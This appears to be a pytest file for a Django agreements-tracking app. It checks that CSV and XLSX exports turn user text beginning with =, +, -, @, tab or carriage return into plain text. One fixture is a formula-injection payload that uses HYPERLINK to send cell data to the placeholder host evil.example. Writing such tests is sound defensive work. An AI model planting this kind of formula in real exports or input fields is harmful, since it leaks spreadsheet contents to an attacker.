"""Text typed by users never becomes a live formula in an export: an acuerdo text starting with
=HYPERLINK(…) (or +, -, @, a tab, a carriage return) stays text in CSV and XLSX."""

import csv
import io
import zipfile

import openpyxl
import pytest

from agreements.models import Acuerdo
from directory.models import Institution

from .followup_helpers import user

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Ver anexo")'
LEADS = [EVIL, "+52 55 1234", "-1+1", "@SUM(A1:A9)", "\tTabulado", "\rRetorno"]


def _fgr_acuerdos(count):
    # Commitments of held sessions: the ones Mis acuerdos lists (informational acuerdos have no
    # part to report on and are not listed).
    return list(Acuerdo.objects.adopted().filter(
        responsibilities__institution__acronym="FGR", kind="commitment")
        .order_by("pk").distinct()[:count])


def _body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_it_neutralises_formula_leads_in_the_csv_export(demo, client):
    acuerdos = _fgr_acuerdos(len(LEADS))
    for acuerdo, text in zip(acuerdos, LEADS):
        Acuerdo.objects.filter(pk=acuerdo.pk).update(text=text)
    client.force_login(user("enlace.fgr"))
    rows = list(csv.reader(io.StringIO(
        _body(client.get("/acuerdos/exportar.csv")).decode("utf-8-sig"), newline="")))
    texts = {r[4] for r in rows[1:]}
    for text in LEADS:
        assert "'" + text in texts
        assert text not in texts
    for plain in _fgr_acuerdos(100)[len(acuerdos):]:
        assert plain.text in texts  # other texts are exported as they are


def test_it_keeps_formula_leads_as_text_in_the_xlsx_export(demo, client):
    acuerdo = _fgr_acuerdos(1)[0]
    Acuerdo.objects.filter(pk=acuerdo.pk).update(text=EVIL)
    client.force_login(user("enlace.fgr"))
    body = client.get("/acuerdos/exportar.xlsx").content
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the sheet
    sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]
    cells = [row[4] for row in sheet.iter_rows(min_row=2) if row[4].value == EVIL]
    assert len(cells) == 1
    assert cells[0].data_type == "s" and cells[0].quotePrefix


def test_it_neutralises_names_in_the_compliance_export(demo, client):
    Institution.objects.filter(acronym="FGR").update(name="=1+1 Fiscalía")
    client.force_login(user("coordinador"))
    query = "?start=2020-01-01&end=2030-12-31"
    rows = list(csv.reader(io.StringIO(
        _body(client.get(f"/coordinacion/cumplimiento/exportar.csv{query}")).decode("utf-8-sig"))))
    assert ["Institución", "FGR", "'=1+1 Fiscalía"] in [r[:3] for r in rows]
    body = client.get(f"/coordinacion/cumplimiento/exportar.xlsx{query}").content
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        assert all("<f>" not in archive.read(n).decode()
                   for n in archive.namelist() if n.startswith("xl/worksheets/"))
